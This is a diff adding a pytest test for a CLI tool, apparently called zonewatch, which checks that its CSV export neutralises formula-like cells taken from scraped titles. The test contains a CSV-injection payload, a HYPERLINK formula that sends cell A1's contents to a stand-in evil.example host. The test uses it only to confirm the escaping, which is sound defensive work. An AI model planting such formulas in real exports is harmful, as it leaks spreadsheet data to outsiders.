@@ -8,6 +8,7 @@ import io
 import json
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner
@@ -273,3 +274,26 @@ def test_mistakes_exit_2_with_a_clear_message(zonewatch: Run) -> None:
         assert message in result.stderr, args
         if message.startswith("error:"):
             assert len(result.stderr.strip().splitlines()) == 1, args
+
+
+def test_csv_cells_from_crawled_titles_cannot_be_formulas(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Titles are scraped: ``=HYPERLINK(...)`` must open as text, not run as a formula."""
+    from zonewatch.cli.changes import CSV_FIELDS, _print_csv
+
+    row: dict[str, Any] = dict.fromkeys(CSV_FIELDS)
+    row.update(
+        id=1,
+        title='=HYPERLINK("https://evil.example/?"&A1,"클릭")',
+        summary="+82 2 0000",
+        entities=["@odz"],
+        topics=[],
+        significance=-0.0,
+    )
+    _print_csv([row])
+
+    [parsed] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert parsed["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"클릭")'
+    assert parsed["summary"] == "'+82 2 0000"
+    assert parsed["entities"] == "'@odz"
